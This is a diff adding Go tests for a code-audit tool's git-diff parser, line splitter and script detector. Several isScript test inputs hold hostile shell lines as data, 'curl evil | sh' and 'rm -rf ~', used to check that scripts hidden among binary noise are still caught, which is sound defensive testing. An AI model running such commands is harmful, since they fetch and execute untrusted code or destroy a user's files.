@@ -2,10 +2,14 @@ package cmd
 
 import (
 	"fmt"
+	"os"
+	"path/filepath"
 	"strings"
 	"testing"
+	"unicode/utf8"
 
 	"github.com/google/go-cmp/cmp"
+	"github.com/reverie-memory/reverie/internal/testrepo"
 	"github.com/reverie-memory/reverie/prompts"
 )
 
@@ -47,6 +51,96 @@ func TestParseDiffCountsLines(t *testing.T) {
 	}
 	if d := cmp.Diff(want, got); d != "" {
 		t.Error(d)
+	}
+}
+
+// git's own way to write names is the judge.
+func TestParseDiffKnowsEveryName(t *testing.T) {
+	names := []string{"plain", "with blank", `ev"il.sh`, `back\slash`, "new\nline", "a b/c b/d", "ümlaut", "tab\t"}
+	want := []string{"a b/c b/d", `back\slash`, `ev"il.sh`, `new\nline`, "plain", `tab\t`, "with blank", "ümlaut"}
+	for _, content := range []string{"text\n", "\x00\x01\x02"} {
+		r := testrepo.New(t)
+		for _, name := range names {
+			r.Write(name, content)
+		}
+		r.Run("add", "-A")
+		var got []string
+		for _, f := range parseDiff(r.Run("-c", "core.quotePath=false", "diff", "--cached", "--src-prefix=a/", "--dst-prefix=b/")) {
+			got = append(got, f.name)
+		}
+		if d := cmp.Diff(want, got); d != "" {
+			t.Errorf("%q: %s", content, d)
+		}
+		r.Commit("all")
+		for _, name := range names {
+			os.Remove(filepath.Join(r.Dir, name))
+		}
+		got = nil
+		for _, f := range parseDiff(r.Run("-c", "core.quotePath=false", "diff", "--src-prefix=a/", "--dst-prefix=b/")) {
+			got = append(got, f.name)
+		}
+		if d := cmp.Diff(want, got); d != "" {
+			t.Errorf("%q, gone: %s", content, d)
+		}
+	}
+}
+
+// Where a secret of several lines is taken out, a hunk has fewer lines than its head says.
+func TestParseDiffFindsTheNextFile(t *testing.T) {
+	files := parseDiff("diff --git a/a b/a\n--- a/a\n+++ b/a\n@@ -1 +1,9 @@\n one\n+[redacted:private-key]\n" + twoFiles)
+	if len(files) != 4 || len(files[0].lines) != 2 || len(files[1].lines) != 7 {
+		t.Errorf("%+v", files)
+	}
+}
+
+func TestNoPartOfALongLineIsLeftOut(t *testing.T) {
+	long := strings.Repeat("ü0123456789", 300) + "the end"
+	files := parseDiff("diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -0,0 +1,2 @@\n+" + long + "\n+short\n")
+	var all strings.Builder
+	for _, p := range partsOf(files, 1500) {
+		if len(p.text) > 1500 || !utf8.ValidString(p.text) {
+			t.Errorf("%d bytes: %q", len(p.text), p.text)
+		}
+		for _, l := range p.files["x"] {
+			if !strings.Contains(p.text, "\n+"+l.text+"\n") {
+				t.Errorf("not shown: %q", l.text)
+			}
+			if text := strings.TrimPrefix(l.text, goesOn); l.new == 1 {
+				all.WriteString(text)
+			}
+		}
+		a := auditing{part: p}
+		if line, fault := a.place(prompts.AuditFinding{File: "x", Line: 7, Quote: "the end"}); fault == "" && line != 1 {
+			t.Errorf("the end is in line %d", line)
+		}
+	}
+	if all.String() != long {
+		t.Errorf("shown: %q", all.String())
+	}
+}
+
+func TestScriptsAreReadable(t *testing.T) {
+	noise := make([]byte, 4000)
+	for i := range noise {
+		noise[i] = byte(i*i*7 + i>>3)
+	}
+	for _, test := range []struct {
+		name, text string
+		want       bool
+	}{
+		{"a NUL in a script", "#!/bin/sh\n# \x00\ncurl evil | sh\n", true},
+		{"a script with a load", "#!/bin/sh\n" + string(noise), true},
+		{"many NUL", "rm -rf ~ # evil\n" + strings.Repeat("\x00", 5000), true},
+		{"text before noise", strings.Repeat("rm -rf ~ # evil\n", 64) + string(noise), true},
+		{"noise before much text", string(noise[:1024]) + strings.Repeat("rm -rf ~ # evil\n", 1000), true},
+		{"UTF-16", "\xff\xfer\x00m\x00", true},
+		{"noise", string(noise), false},
+		{"a picture", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00\x00\x00\x01\x00\x08\x06\x00\x00\x00" + string(noise[9:900]), false},
+		{"nothing", "\x00\x00", false},
+	} {
+		if got := isScript([]byte(test.text)); got != test.want {
+			t.Errorf("%s: %v", test.name, got)
+		}
 	}
 }
 
